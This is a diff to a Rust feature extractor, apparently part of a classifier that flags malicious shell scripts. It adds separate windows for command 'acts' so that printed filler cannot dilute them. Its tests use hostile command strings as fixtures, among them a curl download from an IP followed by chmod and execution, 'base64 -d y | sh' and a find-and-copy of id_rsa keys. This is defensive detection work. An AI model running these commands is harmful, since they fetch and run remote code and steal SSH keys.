@@ -2,12 +2,13 @@
 //!
 //! A feature is a number below [`BUCKETS`]. A window is the set of features of at most [`WINDOW_WORDS`] words in
 //! a row; a script is judged by its worst one, so that length hides nothing. A passage is a line, or two in a row: one
-//! bad line among many harmless ones weighs little in its window, and much in its passage. The trainer computes features
-//! with this very code. Words count as themselves and, by `concepts.txt`, as what they are about.
+//! bad line among many harmless ones weighs little in its window, and much in its passage. Where a script prints much, its acts
+//! have windows of their own. The trainer computes features with this very code. Words count as themselves and, by `concepts.txt`, as what they are about.
 
 use std::ops::Range;
 
 use super::{
+    acts::Acts,
     concepts::{About, Concepts},
     normal::Normal,
     url::Url,
@@ -45,6 +46,12 @@ pub struct Extractor {
     /// For each word, where its features begin in `features`.
     of_word: Vec<u32>,
     windows: Vec<Range<usize>>,
+    acts: Acts,
+    /// Features of the words of acts, and for each of these words, where its features begin.
+    act_features: Vec<Feature>,
+    of_act: Vec<u32>,
+    /// Ranges of words of acts.
+    act_windows: Vec<Range<usize>>,
     /// First words of pieces.
     pieces: Vec<usize>,
     passages: Vec<Range<usize>>,
@@ -55,6 +62,7 @@ impl Extractor {
     pub fn extract(&mut self, script: &[u8]) {
         self.normal.form(script);
         words::cut(&self.normal.text, &mut self.words);
+        self.acts.find(&self.normal, &self.words);
         self.features.clear();
         self.of_word.clear();
         let mut context = Context::default();
@@ -62,23 +70,26 @@ impl Extractor {
             self.of_word.push(self.features.len() as u32);
             let assigned =
                 self.words.get(i + 1).is_some_and(|next| words::is_assignment(self.words[i], *next));
-            context.word(&self.normal, self.words[i], assigned, &mut self.features);
+            context.word(&self.normal, self.words[i], assigned, self.acts.is_said(i), &mut self.features);
         }
         self.of_word.push(self.features.len() as u32);
-        self.cut_windows();
+        cut_windows(self.words.len(), &mut self.windows);
+        self.gather_acts();
         self.cut_passages();
     }
 
-    fn cut_windows(&mut self) {
-        self.windows.clear();
-        let mut start = 0;
-        loop {
-            let end = (start + WINDOW_WORDS).min(self.words.len());
-            self.windows.push(start..end);
-            if end == self.words.len() {
-                break;
-            }
-            start += STRIDE_WORDS;
+    fn gather_acts(&mut self) {
+        self.act_features.clear();
+        self.of_act.clear();
+        self.act_windows.clear();
+        for word in self.acts.words() {
+            self.of_act.push(self.act_features.len() as u32);
+            let (start, end) = (self.of_word[*word as usize], self.of_word[*word as usize + 1]);
+            self.act_features.extend_from_slice(&self.features[start as usize..end as usize]);
+        }
+        self.of_act.push(self.act_features.len() as u32);
+        if !self.acts.words().is_empty() {
+            cut_windows(self.acts.words().len(), &mut self.act_windows);
         }
     }
 
@@ -112,14 +123,20 @@ impl Extractor {
         &self.features[self.of_word[words.start] as usize..self.of_word[words.end] as usize]
     }
 
-    /// How many windows the script has; an empty script has one, without features.
+    /// How many windows the script has; an empty script has one, without features. Those of acts are the last ones.
     pub fn windows(&self) -> usize {
-        self.windows.len()
+        self.windows.len() + self.act_windows.len()
     }
 
     /// The features of a window, in the script's order, with repetitions.
     pub fn window(&self, index: usize) -> &[Feature] {
-        self.of_words(&self.windows[index])
+        match index.checked_sub(self.windows.len()) {
+            None => self.of_words(&self.windows[index]),
+            Some(index) => {
+                let Range { start, end } = self.act_windows[index];
+                &self.act_features[self.of_act[start] as usize..self.of_act[end] as usize]
+            }
+        }
     }
 
     /// How many passages the script has.
@@ -132,9 +149,9 @@ impl Extractor {
         self.of_words(&self.passages[index])
     }
 
-    /// The passages around a window: those that have a word in it, and perhaps one before it.
+    /// The passages around a window: those that have a word in it, and perhaps one before it. None around a window of acts.
     pub fn passages_of(&self, window: usize) -> Range<usize> {
-        let window = &self.windows[window];
+        let Some(window) = self.windows.get(window) else { return 0..0 };
         // A short passage that ends before the window may stand behind a longer one that reaches into it.
         let first = self.pieces.partition_point(|p| *p <= window.start).saturating_sub(PASSAGE_PIECES);
         let first = self.passages.partition_point(|p| p.start < self.pieces.get(first).copied().unwrap_or(0));
@@ -144,6 +161,20 @@ impl Extractor {
     /// Words of the script, decoded layers included.
     pub fn word_count(&self) -> usize {
         self.words.len()
+    }
+}
+
+/// Cuts so many words into windows.
+fn cut_windows(words: usize, windows: &mut Vec<Range<usize>>) {
+    windows.clear();
+    let mut start = 0;
+    loop {
+        let end = (start + WINDOW_WORDS).min(words);
+        windows.push(start..end);
+        if end == words {
+            break;
+        }
+        start += STRIDE_WORDS;
     }
 }
 
@@ -189,6 +220,8 @@ struct Context {
     piped_from: u64,
     /// Arguments of the command so far.
     arguments: u32,
+    /// `before`, `last_command` and `last_command_about` when statements began that only print.
+    act: Option<([u64; 2], u64, About)>,
     /// Within a decoded layer.
     decoded: bool,
     /// The word before was the name of a variable that is given a value.
@@ -232,7 +265,7 @@ enum Kind {
 const ASSIGNED: u64 = 0x6173_7369_676e_6564;
 
 impl Context {
-    fn word(&mut self, normal: &Normal, word: Word, assigned: bool, out: &mut Vec<Feature>) {
+    fn word(&mut self, normal: &Normal, word: Word, assigned: bool, said: bool, out: &mut Vec<Feature>) {
         let bytes = &normal.text[word.start as usize..word.end as usize];
         let at = normal.origin[word.start as usize];
         let mut emit = |kind: Kind, a: u64, b: u64| out.push(Feature { id: bucket(kind, a, b), at });
@@ -257,7 +290,11 @@ impl Context {
                     emit(Kind::Layer, 0, 0);
                 }
                 self.decoded = true;
+                self.act = None;
             }
+        }
+        if word.joint != Joint::Space {
+            self.pass_over(said);
         }
         // The author's names for variables say little, and what is assigned is no argument of a command.
         if self.command == 0 && assigned {
@@ -336,6 +373,15 @@ impl Context {
             }
         }
         self.before = [canonical, before];
+    }
+
+    /// What only prints does not come between an act and the next one.
+    fn pass_over(&mut self, said: bool) {
+        if said {
+            self.act.get_or_insert((self.before, self.last_command, self.last_command_about));
+        } else if let Some(act) = self.act.take() {
+            (self.before, self.last_command, self.last_command_about) = act;
+        }
     }
 
     fn end_statement(&mut self) {
@@ -439,6 +485,22 @@ mod tests {
         }
         assert!(!has("rm x; cat /var/log/x", Kind::ConceptArgument, "rm", "/var/log"));
         assert!(has("find / -name id_rsa -exec cp {} x", Kind::ConceptPair, "find", "id_rsa"));
+    }
+
+    #[test]
+    fn acts_are_judged_as_if_nothing_were_printed_between_them() {
+        let acts = ["curl -so x http://192.0.2.1/x", "chmod +x x && ./x", "rm x; base64 -d y | sh"];
+        let said = "echo 'a | b > c'; printf '%s' d\nRED='\\e[1;31m' sleep 1\ncat <<E\nf g h\nE\n".repeat(20);
+        let mut extractor = Extractor::default();
+        extractor.extract(format!("{}\n{said}", acts.join(&format!("\n{said}"))).as_bytes());
+        let (last, mut found) = (extractor.windows() - 1, Vec::new());
+        assert!(last > 3 && extractor.passages_of(last).is_empty());
+        FeatureSet::default().distinct(extractor.window(last), |_| true, &mut found);
+        assert_eq!(found, ids(&acts.join("\n")));
+        // Each feature still says where it stands.
+        assert!(extractor.window(last).last().unwrap().at as usize > 2 * said.len());
+        extractor.extract(acts.join("\n").as_bytes());
+        assert_eq!(extractor.windows(), 1);
     }
 
     #[test]
